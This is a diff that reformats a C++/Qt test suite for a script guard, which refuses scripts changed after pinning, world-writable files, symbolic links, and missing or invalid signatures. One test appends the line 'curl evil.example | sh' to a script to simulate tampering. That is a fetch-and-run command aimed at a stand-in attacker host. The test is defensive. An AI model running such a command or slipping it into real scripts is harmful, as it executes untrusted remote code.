@@ -62,9 +62,10 @@ void TestScriptGuard::refusesContentChangedAfterThePin()
     m_dir->write(QStringLiteral("changed.sh"), m_content + "curl evil.example | sh\n");
     QString reason;
     QVERIFY(!ScriptGuard(TrustRule::forScope(Scope::System)).check(path, pin, &reason));
-    QCOMPARE(reason, QStringLiteral("script: %1 changed since it was pinned: its SHA-256 is %2, the pin is %3 "
-                                    "(review the change, then accept it with `certlifectl task repin`)")
-                         .arg(path, sha256OfFile(path), pin));
+    QCOMPARE(reason,
+             QStringLiteral("script: %1 changed since it was pinned: its SHA-256 is %2, the pin is %3 "
+                            "(review the change, then accept it with `certlifectl task repin`)")
+                 .arg(path, sha256OfFile(path), pin));
 }
 
 void TestScriptGuard::refusesAWorldWritableScript()
@@ -115,7 +116,9 @@ void TestScriptGuard::refusesSymbolicLinks()
     QString reason;
     const ScriptGuard guard(TrustRule::forScope(Scope::System));
     QVERIFY(!guard.check(linkedFile, sha256Hex(m_content), &reason));
-    QCOMPARE(reason, QStringLiteral("script: %1 is a symbolic link (refused: register the real path, %2)").arg(linkedFile, real));
+    QCOMPARE(
+        reason,
+        QStringLiteral("script: %1 is a symbolic link (refused: register the real path, %2)").arg(linkedFile, real));
 
     const QString linkedDir = m_dir->filePath(QStringLiteral("dirlink"));
     QVERIFY(QFile::link(m_dir->filePath(QStringLiteral("real")), linkedDir));
@@ -147,9 +150,12 @@ void TestScriptGuard::signatureRequired_missing()
     const QString signerFile = m_dir->write(QStringLiteral("signers/trusted.pem"), signer.pem(), 0644);
     const QString path = m_dir->write(QStringLiteral("unsigned.sh"), m_content);
     QString reason;
-    QVERIFY(!ScriptGuard(TrustRule::forScope(Scope::System), true, {signerFile}).check(path, sha256Hex(m_content), &reason));
-    QCOMPARE(reason, QStringLiteral("signature: %1.sig is missing; the policy RequireSignedScripts requires a detached "
-                                    "signature by a trusted signer").arg(path));
+    QVERIFY(!ScriptGuard(TrustRule::forScope(Scope::System), true, {signerFile})
+                 .check(path, sha256Hex(m_content), &reason));
+    QCOMPARE(reason,
+             QStringLiteral("signature: %1.sig is missing; the policy RequireSignedScripts requires a detached "
+                            "signature by a trusted signer")
+                 .arg(path));
     // Without the policy the same script runs.
     QVERIFY(ScriptGuard(TrustRule::forScope(Scope::System)).check(path, sha256Hex(m_content), &reason));
 }
@@ -172,7 +178,8 @@ void TestScriptGuard::signatureRequired_theAdvisedCommandSigns()
     shell.setWorkingDirectory(m_dir->filePath(QStringLiteral("signers")));
     shell.start(QStringLiteral("/bin/sh"), {QStringLiteral("-c"), advice.mid(prefix.size())});
     QVERIFY(shell.waitForFinished(60000));
-    QVERIFY2(shell.exitStatus() == QProcess::NormalExit && shell.exitCode() == 0, shell.readAllStandardError().constData());
+    QVERIFY2(shell.exitStatus() == QProcess::NormalExit && shell.exitCode() == 0,
+             shell.readAllStandardError().constData());
     ::chmod(QFile::encodeName(path + QStringLiteral(".sig")).constData(), 0644);
     QVERIFY2(guard.check(path, sha256Hex(m_content), &reason), qPrintable(reason));
 }
@@ -190,7 +197,8 @@ void TestScriptGuard::signatureRequired_goodOneAccepted()
     QVERIFY(!sig.isEmpty());
     m_dir->write(QStringLiteral("signed.sh.sig"), sig, 0644);
     QString reason;
-    const auto checked = ScriptGuard(TrustRule::forScope(Scope::System), true, {signerFile}).check(path, sha256Hex(m_content), &reason);
+    const auto checked =
+        ScriptGuard(TrustRule::forScope(Scope::System), true, {signerFile}).check(path, sha256Hex(m_content), &reason);
     QVERIFY2(checked, qPrintable(reason));
 }
 
@@ -211,13 +219,16 @@ void TestScriptGuard::signatureRequired_badOnesRefused()
     // Signed by someone who is not a trusted signer.
     m_dir->write(QStringLiteral("s.sh.sig"), signDetached(m_content, untrusted), 0644);
     QVERIFY(!guard.check(path, sha256Hex(m_content), &reason));
-    QCOMPARE(reason, QStringLiteral("signature: %1 is not valid for %2: it is not signed by a trusted signer").arg(sigPath, path));
+    QCOMPARE(
+        reason,
+        QStringLiteral("signature: %1 is not valid for %2: it is not signed by a trusted signer").arg(sigPath, path));
 
     // Signed by the trusted signer, but over other content.
     m_dir->write(QStringLiteral("s.sh.sig"), signDetached(m_content + "# other\n", trusted), 0644);
     QVERIFY(!guard.check(path, sha256Hex(m_content), &reason));
-    QVERIFY2(reason.startsWith(QStringLiteral("signature: %1 is not valid for %2: it does not verify").arg(sigPath, path)),
-             qPrintable(reason));
+    QVERIFY2(
+        reason.startsWith(QStringLiteral("signature: %1 is not valid for %2: it does not verify").arg(sigPath, path)),
+        qPrintable(reason));
 
     // Not a signature at all.
     m_dir->write(QStringLiteral("s.sh.sig"), "garbage", 0644);
